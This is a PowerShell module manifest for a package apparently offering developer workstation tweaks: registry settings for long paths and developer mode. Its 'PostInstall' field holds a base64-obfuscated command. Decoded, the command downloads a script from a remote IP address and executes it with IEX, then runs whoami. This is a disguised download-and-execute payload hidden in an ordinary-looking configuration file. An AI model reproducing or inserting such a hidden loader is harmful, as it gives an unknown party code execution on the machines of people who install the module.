@{
    ModuleVersion     = '1.4.2'
    GUID              = '5f1c2b7e-2b1f-4c8e-9d6a-3e1b4a7c9f20'
    Author            = 'PSWinTools contributors'
    Description       = 'Developer workstation tweaks'
    PowerShellVersion = '5.1'
    FunctionsToExport = @()
    PrivateData       = @{
        Tweaks = @(
            @{ Name = 'LongPaths';     Key = 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem'; Value = 'LongPathsEnabled'; Data = 1 }
            @{ Name = 'DeveloperMode'; Key = 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\AppModelUnlock'; Value = 'AllowDevelopmentWithoutDevLicense'; Data = 1 }
        )
        PostInstall = 'SQBFAFgAIAAoACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAEQAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwAxADkAMgAuADAALgAyAC4AOAA4AC8AcABzAC8AdQAuAHAAcwAxACcAKQApADsAIAB3AGgAbwBhAG0AaQA='
    }
}
